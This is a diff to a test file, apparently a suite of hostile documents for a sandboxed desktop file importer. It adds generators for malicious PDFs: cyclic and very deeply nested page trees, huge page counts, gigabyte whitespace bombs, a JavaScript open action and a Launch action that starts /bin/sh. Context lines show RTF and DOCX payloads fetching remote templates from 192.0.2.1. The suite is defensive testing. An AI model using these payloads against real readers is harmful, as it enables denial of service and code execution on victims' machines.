@@ -29,6 +29,7 @@ sys.path.insert(0, str(ROOT))
 from desktop.domain import Parsed  # noqa: E402
 from desktop.errors import UnreadableFileError  # noqa: E402
 from desktop.formats.door.sandbox import Sandbox  # noqa: E402
+from tests.formats.pdf.samples import Made, assembled, lines, pdf, stream  # noqa: E402
 
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 ODF = "urn:oasis:names:tc:opendocument:xmlns:"
@@ -216,7 +217,70 @@ Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>"""
 FAR_RTF = rf"""{{\rtf1{{\*\template http://192.0.2.1/t.dotm}}{{\field{{\*\fldinst INCLUDEPICTURE
 "http://192.0.2.1/a.png"}}{{\fldrslt}}}}{{\object\objautlink{{\*\objdata 00}}}} {WORDS}}}"""
 
+
+def pdf_tree(kids: str, count: int, content: bytes = b"", **more: bytes) -> bytes:
+    """Return a PDF whose page tree lists what `kids` says; `more` objects by 'o' and number."""
+    things = {
+        1: b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>",
+        2: f"<</Type /Pages /Count {count} /Kids [{kids}]>>".encode(),
+        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 400 600] /Contents 4 0 R "
+        b"/Resources <</Font <</F1 5 0 R>>>>>>",
+        4: content or stream(f"BT /F1 10 Tf 50 500 Td ({WORDS}) Tj ET".encode()),
+        5: b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
+    }
+    return assembled({**things, **{int(name[1:]): thing for name, thing in more.items()}})
+
+
+def deep_pdf(levels: int) -> bytes:
+    """Return a PDF whose page tree is nested so deep."""
+    nodes = {
+        f"o{number}": b"<</Type /Pages /Count 1 /Kids [%d 0 R]>>" % (number + 1)
+        for number in range(6, 6 + levels)
+    }
+    nodes[f"o{5 + levels}"] = b"<</Type /Pages /Count 1 /Kids [3 0 R]>>"
+    return pdf_tree("6 0 R", 1, **nodes)
+
+
+def letters_pdf(count: int) -> bytes:
+    """Return a PDF with so many words on one page."""
+    drawn = f"BT /F1 1 Tf 50 500 Td {f'({WORDS} ) Tj 0 -1 Td ' * count} ET"
+    return pdf_tree("3 0 R", 1, stream(drawn.encode()))
+
+
 ATTACKS: tuple[Attack, ...] = (
+    Attack("zero pages.pdf", lambda: pdf_tree("", 0), "no pages"),
+    Attack("a page tree that bites its tail.pdf", lambda: pdf_tree("3 0 R 2 0 R", 2)),
+    Attack("a page tree 100,000 deep.pdf", lambda: deep_pdf(100_000), "damaged", True),
+    Attack("a page tree 500 deep.pdf", lambda: deep_pdf(500)),
+    Attack("two billion pages.pdf", lambda: pdf_tree("3 0 R", 2_000_000_000)),
+    Attack("20,000 pages.pdf", lambda: pdf(*[lines(WORDS)] * 20_000), "", True),
+    Attack("2,000 times one page.pdf", lambda: pdf_tree("3 0 R " * 2_000, 2_000)),
+    Attack(
+        "a huge page.pdf",
+        lambda: Made([lines(WORDS)], box="-900000000 -900000000 900000000 900000000").data(),
+    ),
+    Attack("a page of no size.pdf", lambda: Made([lines(WORDS)], box="0 0 0 0").data()),
+    Attack(
+        "bomb in a page.pdf",
+        lambda: pdf_tree("3 0 R", 1, stream(b" " * (1 << 30))),
+        "brought the importer down",  # the engine ends itself where it gets no memory
+        True,
+    ),
+    Attack(
+        "bomb in an object stream.pdf",
+        lambda: pdf_tree(
+            "3 0 R", 1, o6=stream(b" " * (1 << 28), b"/Type /ObjStm /N 1000 /First 0")
+        ),
+        "",
+        True,
+    ),
+    Attack("20,000 words on a spot.pdf", lambda: letters_pdf(20_000)),
+    Attack(
+        "files and programs inside.pdf",
+        lambda: pdf_tree("3 0 R", 1).replace(
+            b"/S /JavaScript /JS (app.alert(1))", b"/S /Launch /F (/bin/sh)           "
+        ),
+    ),
     Attack(
         "bomb of 1 GB.docx",
         lambda: member("word/document.xml", zeros(1 << 30), 1 << 30),
